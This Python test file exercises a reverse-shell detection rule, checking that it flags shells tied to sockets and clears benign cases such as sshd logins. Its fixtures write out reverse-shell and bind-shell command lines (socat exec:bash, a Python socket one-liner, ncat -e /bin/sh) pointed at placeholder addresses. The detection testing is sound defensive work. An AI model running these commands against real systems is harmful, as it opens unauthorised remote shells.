"""Rule reverse-shell: the three shapes, the ports, and what is not a reverse shell."""

from __future__ import annotations

from tests.server.detect.helpers import MemoryContext, facts, proc, run

from vigil.server.detect.rules.reverse_shell import ReverseShellRule


def _conn(pid: int, raddr: str, rport: int, lport: int = 50000) -> dict:
    return {"key": f"tcp:{lport}", "proto": "tcp", "laddr": "10.0.0.5", "lport": lport,
            "raddr": raddr, "rport": rport, "status": "ESTABLISHED", "pid": pid}


def test_bash_with_stdio_on_a_socket() -> None:
    bash = proc(200, "bash", cmdline=["bash", "-i"], stdio_sockets=[0, 1, 2],
                stdio_raddr="127.0.0.1", stdio_rport=4444)
    found = run(ReverseShellRule(), facts(processes=[bash]), MemoryContext(processes=[bash]))
    assert len(found) == 1
    assert found[0].evidence["form"] == "stdio-socket"
    assert found[0].techniques == ("T1059.004", "T1095", "T1571")
    assert found[0].src_ip is None  # loopback is no attacker address


def test_standard_port_is_not_t1571() -> None:
    sh = proc(201, "sh", stdio_raddr="192.0.2.10", stdio_rport=443)
    found = run(ReverseShellRule(), facts(processes=[sh]), MemoryContext(processes=[sh]))
    assert found[0].techniques == ("T1059.004", "T1095") and found[0].src_ip == "192.0.2.10"


def test_socat_or_nc_holding_an_outbound_connection() -> None:
    socat = proc(300, "socat", cmdline=["socat", "exec:bash -li,pty", "tcp:192.0.2.10:9001"])
    ctx = MemoryContext(processes=[socat], connections=[_conn(300, "192.0.2.10", 9001)])
    found = run(ReverseShellRule(), facts(processes=[socat]), ctx)
    assert found[0].evidence["form"] == "outbound-connection"
    assert found[0].evidence["c2"] == {"address": "192.0.2.10", "port": 9001}


def test_connection_arriving_later_is_matched_to_the_process() -> None:
    nc = proc(301, "nc")
    ctx = MemoryContext(processes=[nc], connections=[_conn(301, "192.0.2.10", 4444)])
    found = run(ReverseShellRule(), facts(connections=[_conn(301, "192.0.2.10", 4444)]), ctx)
    assert len(found) == 1 and found[0].subject == nc["key"]


def test_interpreter_needs_more_than_a_connection() -> None:
    """A script fetching HTTPS is not a reverse shell; python spawning a shell over one is."""
    script = proc(400, "python3", cmdline=["python3", "fetch.py"])
    ctx = MemoryContext(processes=[script], connections=[_conn(400, "192.0.2.20", 443)])
    assert run(ReverseShellRule(), facts(processes=[script]), ctx) == []
    oneliner = proc(401, "python3", cmdline=[
        "python3", "-c", "import socket,pty;s=socket.socket();s.connect(('192.0.2.20',4444))"])
    child = proc(402, "sh", ppid=401)
    ctx = MemoryContext(processes=[oneliner, child], connections=[_conn(401, "192.0.2.20", 4444)])
    found = run(ReverseShellRule(), facts(processes=[oneliner, child]), ctx)
    assert [f.evidence["form"] for f in found] == ["interpreter-connection"]


def test_shell_started_by_a_listening_service_but_not_by_sshd() -> None:
    ncat = proc(500, "ncat", cmdline=["ncat", "-l", "4444", "-e", "/bin/sh"])
    sh = proc(501, "sh", ppid=500)
    sshd = proc(600, "sshd", uid=0)
    login_shell = proc(601, "bash", ppid=600)
    listening = [{"key": "tcp:4444", "proto": "tcp", "addr": "0.0.0.0", "port": 4444, "pid": 500},
                 {"key": "tcp:22", "proto": "tcp", "addr": "0.0.0.0", "port": 22, "pid": 600}]
    ctx = MemoryContext(processes=[ncat, sh, sshd, login_shell], listening=listening)
    found = run(ReverseShellRule(), facts(processes=[sh, login_shell]), ctx)
    assert [(f.evidence["form"], f.subject) for f in found] == [("network-service-parent", sh["key"])]


def test_inbound_connections_are_not_outbound() -> None:
    sh = proc(700, "bash")
    inbound = _conn(700, "192.0.2.30", 51000, lport=22)
    ctx = MemoryContext(processes=[sh], connections=[inbound],
                        listening=[{"key": "tcp:22", "proto": "tcp", "addr": "0.0.0.0", "port": 22}])
    assert run(ReverseShellRule(), facts(processes=[sh]), ctx) == []
